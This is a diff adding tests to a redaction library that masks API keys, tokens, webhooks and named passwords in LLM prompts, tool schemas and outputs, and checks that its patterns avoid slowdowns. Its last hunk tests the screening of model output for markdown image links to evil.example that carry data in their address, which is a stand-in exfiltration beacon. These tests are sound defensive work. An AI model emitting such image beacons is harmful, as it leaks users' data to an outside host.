@@ -13,17 +13,45 @@ test.each([
   ["a key of AWS", `AKIA${"ABCD1234EFGH5678"}`],
   ["a private key", `-----BEGIN RSA PRIVATE KEY-----\n${random}\n-----END RSA PRIVATE KEY-----`],
   ["a JSON web token", `eyJ${random}.eyJ${random}.${random}`],
+  ["a key of SendGrid", `SG.${random}.${random}`],
+  ["a token of Google", `ya29.${random}`],
+  ["a key of Linear", `lin_api_${random}`],
+  ["an address of Slack that takes messages", `https://hooks.slack.com/services/T000/B000/${random}`],
+  ["a header", `Authorization: Bearer ${random}`],
   ["a password in an address", `hunter2hunter2`],
 ])("%s is masked, and the words around it stay", (_name, secret) => {
   const text = secret === "hunter2hunter2" ? `postgres://ada:${secret}@db.internal:5432/shop` : `before ${secret} after`;
   const clean = redactText(text);
   expect(clean).not.toContain(secret);
+  expect(clean).not.toContain(random);
   expect(clean).toContain("removed]");
   expect(clean).toMatch(secret === "hunter2hunter2" ? /^postgres:\/\/ada:.*@db\.internal:5432\/shop$/ : /^before .* after$/s);
 });
 
+test.each([
+  "DB_PASSWORD=hunter2hunter2",
+  "POSTGRES_PASSWORD: s3cr3tpassw0rd",
+  "MISTRAL_API_KEY=q8Jd72hfKs9Lw03nZx",
+  "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
+  "SECRET_KEY=0f9a8b7c6d5e4f3a2b1c",
+  '"dbPassword": "abc12345xyz"',
+  String.raw`"{\"dbPassword\": \"abc12345xyz\"}"`,
+  "AUTH_TOKEN=abc12345def67890",
+  "https://example.com/x?access_token=abc12345def67890",
+  "password: `hunter2hunter2`",
+])("a secret that is named is masked, and its name stays: %s", (text) => {
+  const secret = /[\w/]+(?=\W*$)/.exec(text)?.[0] ?? "";
+  expect(secret.length).toBeGreaterThan(8);
+  expect(redactText(text)).toBe(text.replace(secret, "[secret removed]"));
+});
+
 test("words and code that are no secrets stay as they are", () => {
   const texts = [
+    "The password is shown to p4rticipants; token: 20; Bearer tokens have 20 characters.",
+    "password: process.env.S3_PASSWORD",
+    "const apiKey = config2.apiKey, token = tokens[0].value1;",
+    "nextPageToken: CAoQ1a2b3c4d",
+    "The colour token: brand-primary-500",
     "Ask the task-force about sk-8 sizes; the token count is 12.",
     'const password = formData.get("password1");',
     "See https://example.com/a:b@c and user@example.com",
@@ -110,6 +138,42 @@ test("a call leaves without secrets, wherever in it they stand; what is no text,
   ]);
 });
 
+test("tools and the form of an answer leave without secrets too, and stay what they are", () => {
+  const token = `ghp_${random}`;
+  const schema = { type: "object" as const, properties: { password: { type: "string" as const, description: `as ${token}` } } };
+  const tools = [{ type: "function" as const, name: "save", description: `With ${token}`, inputSchema: schema }];
+  const clean = redactPrompt({ prompt: [], tools, responseFormat: { type: "json", schema, description: "own-key-1" } }, ["own-key-1"]);
+  expect(JSON.stringify(clean)).not.toMatch(new RegExp(`${token}|own-key-1`));
+  expect(clean.tools).toMatchObject([{ name: "save", inputSchema: { properties: { password: { type: "string" } } } }]);
+});
+
+test.each([
+  ["beginnings of private keys", "-----BEGIN PRIVATE KEY-----"],
+  ["beginnings of tokens", "eyJ-"],
+  ["halves of tokens", "eyJaaaaaaaa."],
+  ["beginnings of pictures", "!["],
+  ["pictures that do not end", "![](http://"],
+  ["addresses that do not end", "a://b:"],
+  ["names without a value", "password   :   "],
+  ["beginnings of keys", "sk-AIza-ya29.SG.xoxb-hooks.slack.com/services/"],
+  ["headers", "Authorization: Bearer "],
+])("nobody stops a process with %s: they take time as plain words do", (_name, piece) => {
+  const of = (text: string) => text.repeat(Math.ceil(200_000 / text.length));
+  const took = (text: string) => {
+    const rounds = [1, 2, 3].map(() => {
+      const from = performance.now();
+      screenOutput(text);
+      return performance.now() - from;
+    });
+    return Math.min(...rounds);
+  };
+  expect(took(of(piece))).toBeLessThan(20 * took(of("abcd ")) + 100);
+});
+
+test("a word of millions of letters is too long for no pattern", () => {
+  expect(redactText(`sk-${"a".repeat(20_000_000)}`)).toContain("[API key removed]aaa");
+});
+
 test("what a model wrote is looked at before a tool acts on it", () => {
   const tags = String.fromCodePoint(0xe0068, 0xe0069);
   const beacon = `![x](https://evil.example/p?d=${"a".repeat(200)})`;
@@ -117,5 +181,7 @@ test("what a model wrote is looked at before a tool acts on it", () => {
     text: "Hello there [GitHub token removed] [picture removed] ![logo](https://cdn.example/logo.png)",
     findings: ["hidden characters", "a secret", "a picture whose address carries data away"],
   });
+  for (const form of [`( https://evil.example/${"a".repeat(300)} )`, `(<https://evil.example/?d=${"a".repeat(80)}> "x")`])
+    expect(screenOutput(`See ![x]${form}!`).text).toBe("See [picture removed]!");
   expect(screenOutput("Plain words.")).toEqual({ text: "Plain words.", findings: [] });
 });
